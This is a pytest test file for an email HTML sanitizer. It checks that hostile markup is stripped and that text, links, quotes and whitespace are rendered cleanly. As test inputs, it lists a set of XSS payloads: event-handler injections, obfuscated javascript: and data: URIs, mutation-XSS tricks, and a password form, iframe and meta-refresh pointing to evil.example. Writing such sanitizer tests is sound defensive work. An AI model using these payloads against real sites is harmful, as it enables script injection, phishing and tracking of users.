"""HTML of a mail becomes plain text, and harmless HTML."""

import pytest

from tests.tickets.mailroom.mails import mail
from tickets.mailroom.parsing.markup import MAX_HTML_CHARS, MAX_NESTING, Page


def text(source: str) -> str:
    return Page(source).text()


def html(source: str) -> str:
    return Page(source).html()


@pytest.mark.parametrize(
    "trap",
    ["script", "stolen", "javascript:", "/desk/logout", "track.example", "style", "onload", "mso"],
)
def test_nothing_of_a_hostile_mail_is_shown(trap):
    assert trap not in mail("html_only").html


@pytest.mark.parametrize(
    "source",
    [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<scr<script>ipt>alert(1)</script>",
        "<p style='background:url(//track.example)'>x</p>",
        "<form action=//evil.example><input name=password><button>x</button></form>",
        "<iframe src=//evil.example></iframe>",
        "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
        '<td background="//evil.example" colspan="2" onmouseover="alert(1)">x</td>',
    ],
)
def test_html_can_do_nothing_and_load_nothing(source):
    cleaned = html(f"<p>before {source} after</p>")
    tags = "".join(part.partition(">")[0] for part in cleaned.split("<")[1:])
    for trap in ("script", "onerror", "onload", "onclick", "onmouse", "evil", "style", "data:"):
        assert trap not in tags
    assert "src" not in tags


def test_links_lead_out_and_say_nothing():
    assert html("<a href='https://a.example/?x=1&y=2'>go</a>") == (
        '<a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow">go</a>'
    )


def test_pictures_of_the_mail_itself_are_shown():
    assert html('<img src="cid:logo@mail" alt="Logo">') == '<img src="cid:logo@mail" alt="Logo">'


@pytest.mark.parametrize("source", ["", "<p> &nbsp; </p>", "<style>p{}</style>", "<!-- x -->"])
def test_what_shows_nothing_is_nothing(source):
    assert html(source) == ""


def test_where_a_link_leads_stands_behind_its_words():
    assert text("<a href='https://a.example'>here</a>.") == "here <https://a.example>."


def test_a_link_that_says_where_it_leads_is_not_repeated():
    assert text("<a href='https://a.example/'>https://a.example</a>") == "https://a.example"


def test_quotes_carry_their_sign():
    assert text("<p>a</p><blockquote>b<blockquote>c</blockquote></blockquote>d") == (
        "a\n\n> b\n\n> > c\n\nd"
    )


def test_preformatted_lines_stay_lines():
    assert text("<p>log:</p><pre>one\n  two\n\nthree</pre>") == "log:\n\none\n  two\n\nthree"


def test_white_space_is_that_of_a_reader():
    assert text("<div>a\n  b<b> c</b>\n</div>\n<div>d&nbsp;&nbsp;e</div>") == "a b c\nd e"


def test_line_breaks_are_lines_and_two_are_a_paragraph():
    assert text("a<br>b<br><br><br>c") == "a\nb\n\nc"


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("a<b", "a"),
        ('<font face=Arial" size=2>seen</font>', "seen"),
        ('<p title="open>seen</p>', "seen"),
        ("<p>seen<!-- never closed", "seen"),
        ("<p>seen<script>never closed", "seen"),
        ("seen</p></div></b>", "seen"),
        ("&lt;b&gt; &amp; &#8211; &nosuch; &#99999999999999999999;", "<b> & – &nosuch; \ufffd"),
        ("<o:p>seen</o:p><![if !mso]> too<![endif]>", "seen too"),
        ("<TITLE>hidden</TITLE><P>seen", "seen"),
    ],
)
def test_sloppy_html_still_says_what_it_says(source, said):
    assert text(source) == said


def test_entities_cannot_bring_back_what_was_taken_out():
    page = Page("<p>a&#x202e;b&#0;c&#xd800;</p>")
    assert page.text() == "ab\ufffdc\ufffd"
    assert page.html() == "<p>ab\ufffdc\ufffd</p>"


def test_deep_nesting_is_cut_and_its_text_is_kept():
    page = Page("<div>" * 1000 + "deep" + "</div>" * 1000)
    assert page.html() == "<div>" * MAX_NESTING + "deep" + "</div>" * MAX_NESTING
    assert page.text() == "deep"


def test_text_in_a_table_outside_its_cells_is_kept():
    assert html("<table>x<tr><td>y</td></tr></table>").replace(" ", "") == "<table></table>xy"


def test_very_long_html_is_cut_and_reported():
    page = Page("&" * MAX_HTML_CHARS)
    assert page.cut
    assert 0 < len(page.html()) <= MAX_HTML_CHARS + 10
